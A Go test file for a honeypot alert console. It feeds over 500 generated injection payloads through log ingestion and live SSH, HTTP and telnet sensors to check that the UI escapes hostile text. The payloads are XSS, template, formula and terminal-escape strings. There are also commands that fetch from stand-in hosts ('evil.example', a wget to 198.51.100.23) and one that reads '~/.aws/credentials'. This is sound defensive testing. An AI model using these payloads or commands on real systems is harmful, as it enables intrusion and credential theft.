package ui

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"honeyguide"
	"honeyguide/test/rig"
)

// payloads are texts that run, or hide, or turn the reader's eye, wherever
// something forgets that they are only text: at least 500 of them. Each would set
// a mark the browser looks for.
func payloads() []string {
	acts := []string{"alert(%d)", "confirm`%d`", "window.pwned=%d", "fetch('//evil.example/%d')", "document.title='%d'"}
	forms := []string{
		"<script>%s</script>", "<ScRiPt>%s//", "<img src=x onerror=%s>", "<img/src='x'/onerror=%s>", "<svg onload=%s>", "'\"><svg/onload=%s>",
		"</code></span></div><img src=x onerror=%s>", "--><script>%s</script>", "]]><script>%s</script>", "<iframe srcdoc='<script>parent.%s</script>'>",
		"<iframe src=javascript:%s>", "javascript:%s", "JaVaScRiPt:%s", "java\tscript:%s", "<a href=javascript:%s>x</a>", "data:text/html,<script>%s</script>",
		"<body onload=%s>", "<details open ontoggle=%s>", "<video><source onerror=%s>", "<audio src onerror=%s>", "<input autofocus onfocus=%s>",
		"<select autofocus onfocus=%s>", "<textarea autofocus onfocus=%s>", "<marquee onstart=%s>", "<object data=javascript:%s>", "<embed src=javascript:%s>",
		"<form action=javascript:%s><button>x", "<math><mtext><table><mglyph><style><img src=x onerror=%s>", "<svg><script>%s</script></svg>",
		"<svg><animate onbegin=%s attributeName=x>", "<link rel=stylesheet href=javascript:%s>", "<meta http-equiv=refresh content='0;url=javascript:%s'>",
		"<base href=javascript:%s//>", "<style>@import 'javascript:%s'</style>", "<div style=background:url(javascript:%s)>", "<x onclick=%s tabindex=0>x</x>",
		"\" onmouseover=%s x=\"", "' onfocus=%s autofocus x='", "` onerror=%s `", "{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "<%%= %s %%>",
		"<noscript><p title=\"</noscript><img src=x onerror=%s>\">", "<template><script>%s</script></template>", "<portal src=javascript:%s>",
		"&lt;script&gt;%s&lt;/script&gt;", "&#60;img src=x onerror=%s&#62;", "\\u003cimg src=x onerror=%s\\u003e", "%%3Cscript%%3E%s%%3C/script%%3E",
		"<img src=x:%s onerror=eval(src)>", "<isindex action=javascript:%s>", "<table background=javascript:%s>", "<frameset onload=%s>",
		"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>%s</x:script>", "<!--[if gte IE 4]><script>%s</script><![endif]-->",
		"__proto__[x]=%s", "constructor.prototype.x=%s", "<img src=x onerror=\x00%s>", "\u202e<script>%s</script>", "=cmd|'/C calc'!A0 %s", "+HYPERLINK(\"javascript:%s\")",
		"-2+3+cmd|' /C calc'!A0 %s", "@SUM(1+1)*%s", "\uff1d1+1 %s", "\x1b]0;%s\x07", "\x1b[2J\x1b[H%s", "\x1b]52;c;cHduZWQ=\x07%s", "\x9b31m%s", "\r\nlevel=ERROR msg=%s",
		"\u2028%s\u2029", "\u202d%s\u2066", "\u200b\u200d%s\ufeff", "a\u0301\u0301\u0301\u0301%s", "\U0001f469\u200d\U0001f4bb%s", "%s\u061c",
	}
	var out []string
	n := 0
	for _, act := range acts {
		for _, form := range forms {
			n++
			out = append(out, fmt.Sprintf(form, fmt.Sprintf(act, n)))
		}
	}
	for i := len(out); i < 510; i++ {
		out = append(out, fmt.Sprintf("<img src=x onerror=alert(%d)>%s", i, strings.Repeat("A", i)))
	}
	return append(out, strings.Repeat("<b onclick=alert(1)>", 3000)) // a line of 60 KB
}

// A hostile hands out payloads one after another, so that all are used everywhere.
type hostile struct {
	all  []string
	at   int
	used map[string]bool
}

func (h *hostile) next() string {
	p := h.all[h.at%len(h.all)]
	h.at++
	h.used[p] = true
	return p
}

// kept are fields by which formats are known and times are read: with anything
// else in them nothing would get far enough to be shown.
var kept = regexp.MustCompile(`(?i)^(eventid|event_type|logtype|timestamp|@timestamp|time|local_time.*|utc_time|start_at|stop_at|_path|ts|proto|protocol|kind|category|type|dataset|module|scope|session|uuid|outcome|severity|level|hassh)$`)

// taint replaces the texts of a record: all fields an attacker, or a neighbour
// who forwards what they did, may have chosen.
func (h *hostile) taint(v any, key string) any {
	switch x := v.(type) {
	case map[string]any:
		for k, in := range x {
			x[k] = h.taint(in, k)
		}
	case []any:
		for i, in := range x {
			x[i] = h.taint(in, key)
		}
	case string:
		if _, err := netip.ParseAddr(x); err == nil || x == "" || kept.MatchString(key) || timeLike.MatchString(x) {
			return x
		}
		return h.next()
	}
	return v
}

var timeLike = regexp.MustCompile(`^\d{4}-\d\d-\d\d[T ]|^[0-9.]+$`)

// records taints the records of a format's own test data until every payload was
// used, each record from an address of its own.
func (h *hostile) records(t *testing.T, file string) string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(root(), "internal", "ingest", filepath.FromSlash(file)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	for before, round := h.at, 0; h.at-before < len(h.all) && round < 100; round++ {
		in := json.NewDecoder(bytes.NewReader(raw))
		for {
			var v any
			if in.Decode(&v) != nil {
				break
			}
			line, _ := json.Marshal(h.taint(v, ""))
			line = bytes.ReplaceAll(line, []byte("198.51.100.7"), fmt.Appendf(nil, "198.51.%d.%d", 100+round, 7+out.Len()%200))
			out.Write(append(line, '\n'))
		}
	}
	return out.String()
}

// lines are records of formats that are no JSON.
func (h *hostile) lines() map[string]string {
	formats := map[string]string{}
	clean := strings.NewReplacer("\n", " ", "\r", " ", "|", "/", "=", "\\=").Replace
	for n := range 130 {
		p := func() string { return clean(h.next()) }
		src := fmt.Sprintf("203.0.113.%d", n+1)
		formats["cef"] += fmt.Sprintf("CEF:0|%s|%s|1|%d|%s|9|src=%s dst=192.0.2.1 suser=%s duser=%s msg=%s fname=%s request=%s cs1=%s cs1Label=%s\n", p(), p(), n, p(), src, p(), p(), p(), p(), p(), p(), p())
		formats["syslog"] += fmt.Sprintf("<38>1 %s web1 sshd 9 - - Failed password for invalid user %s from %s port 4222 ssh2\n", time.Now().UTC().Format(time.RFC3339), p(), src)
		formats["fastlog"] += fmt.Sprintf("11/21/2026-19:30:%02d.123456  [**] [1:%d:1] %s [**] [Classification: %s] [Priority: 1] {TCP} %s:4000 -> 192.0.2.10:80\n", n%60, 9000+n, p(), p(), src)
	}
	return formats
}

// attack is what a hostile client does by itself: at every place where it can say
// something.
func (h *hostile) attack(t *testing.T, c *console) {
	t.Helper()
	printable := func() string {
		for {
			if p := h.next(); len(p) < 200 && !strings.ContainsFunc(p, func(r rune) bool { return r < 32 || r > 126 }) {
				return p
			}
		}
	}
	addr := c.core.Sensor("ssh")
	dial := func(user string) (*ssh.Client, error) {
		return ssh.Dial("tcp", addr, &ssh.ClientConfig{
			User: user, Auth: []ssh.AuthMethod{ssh.Password(h.next())},
			HostKeyCallback: ssh.InsecureIgnoreHostKey(), ClientVersion: "SSH-2.0-" + printable(), Timeout: 20 * time.Second,
		})
	}
	for range 3 {
		if conn, err := dial(h.next()); err == nil { // nobody of that name lives there, as a rule
			_ = conn.Close()
		}
		conn, err := dial("root")
		if err != nil {
			t.Fatal(err)
		}
		for range 4 {
			run, err := conn.NewSession()
			if err != nil {
				t.Fatal(err)
			}
			quoted := "'" + strings.ReplaceAll(h.next(), "'", `'\''`) + "'"
			_ = run.Run("echo " + quoted + " > /tmp/" + quoted + "; cat /tmp/*; wget http://198.51.100.23/" + url.PathEscape(h.next()) + "; " + h.next())
			_ = run.Close()
		}
		h.shell(t, conn)
		_ = conn.Close()
	}
	h.web(t, c.core.Sensor("http"))
	if tel, err := net.Dial("tcp", c.core.Sensor("telnet")); err == nil {
		_ = tel.SetDeadline(time.Now().Add(5 * time.Second))
		buf := make([]byte, 512)
		for range 4 {
			_, _ = tel.Read(buf)
			fmt.Fprintf(tel, "%s\r\n", strings.NewReplacer("\r", "", "\n", "").Replace(h.next()))
		}
		_ = tel.Close()
	}
}

// shell types at a terminal, by which there is a recording to replay.
func (h *hostile) shell(t *testing.T, conn *ssh.Client) {
	t.Helper()
	s, err := conn.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	in, err := s.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm<img src=x>", 24, 80, ssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{"uname -a", "echo '" + strings.ReplaceAll(h.next(), "'", "") + "'", `printf '\033]0;pwned\007\033[2J'`, "cat ~/.aws/credentials ~/.bash_history", h.next(), "exit"} {
		time.Sleep(150 * time.Millisecond)
		fmt.Fprintf(in, "%s\n", strings.ReplaceAll(line, "\n", " "))
	}
	_ = s.Wait()
}

// web speaks to the web decoy: path, user agent, credentials, and a planted password.
func (h *hostile) web(t *testing.T, addr string) {
	t.Helper()
	client := &http.Client{Timeout: 10 * time.Second}
	for range 12 {
		req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/"+url.PathEscape(h.next()), strings.NewReader(url.Values{"username": {h.next()}, "password": {h.next()}}.Encode()))
		if err != nil {
			t.Fatal(err)
		}
		line := strings.NewReplacer("\x00", "", "\r", "", "\n", "", "\x1b", "", "\x07", "").Replace
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("User-Agent", line(h.next()))
		req.Header.Set("Referer", line(h.next()))
		if resp, err := client.Do(req); err == nil {
			_ = resp.Body.Close()
		}
	}
}

// colleagues say hostile things, too: every text a person of the team writes.
func (h *hostile) colleagues(t *testing.T, c *console) {
	t.Helper()
	alerts, err := rig.List[honeyguide.Alert](c.core, "/api/v1/alerts")
	if err != nil || len(alerts) < 20 {
		t.Fatalf("%d alerts, %v", len(alerts), err)
	}
	for i, a := range alerts[:12] {
		c.post(t, "/api/v1/alerts/status", map[string]any{"ids": []string{a.ID}, "status": "acknowledged", "note": h.all[i*7]}, nil)
		c.post(t, "/api/v1/alerts/verdict", map[string]any{"ids": []string{a.ID}, "verdict": "true_positive", "comment": h.all[i*11]}, nil)
	}
	// What a person writes may hold no control characters; everything else goes.
	for _, p := range h.all[:3] {
		c.post(t, "/api/v1/users", map[string]any{"name": fmt.Sprintf("u%d", len(p)), "display": p, "role": "viewer"}, nil)
	}
}

// TestHostileText lets 500 hostile texts in by every door and looks at every room
// that shows them.
func TestHostileText(t *testing.T) {
	need(t)
	c := start(t, freePort(t), "auth.second_factor=", "sensors.ssh.accept=always")
	h := &hostile{all: payloads(), used: map[string]bool{}}
	for format, file := range map[string]string{
		"cowrie": "cowrie/testdata/forms.json", "suricata": "suricata/testdata/eve.json", "wazuh": "wazuh/testdata/alerts.json", "elastic": "elastic/testdata/forms.jsonl",
		"opencanary": "opencanary/testdata/forms.jsonl", "generic": "generic/testdata/alerts.jsonl",
	} {
		text, began := h.records(t, file), time.Now()
		c.ingest(t, format, text)
		t.Logf("%s: %d records, %d KB, %v", format, strings.Count(text, "\n"), len(text)>>10, time.Since(began).Round(time.Millisecond))
	}
	for format, text := range h.lines() {
		c.ingest(t, format, text)
	}
	h.attack(t, c)
	if len(h.used) < 500 || len(h.used) < len(h.all) {
		t.Fatalf("%d of %d payloads were used", len(h.used), len(h.all))
	}
	rig.Eventually(t, 30*time.Second, "alerts of everything", func() bool {
		alerts, err := rig.List[honeyguide.Alert](c.core, "/api/v1/alerts")
		return err == nil && len(alerts) > 200 && slices.ContainsFunc(alerts, func(a honeyguide.Alert) bool { return a.Session != "" })
	})
	h.colleagues(t, c)
	c.give["cookie"] = c.signIn(t, "ada", "admin")
	c.rate.Store(2) // few, so that the hostile ones stay on top
	c.run(t, "hostile", 3*time.Minute, nil)
}
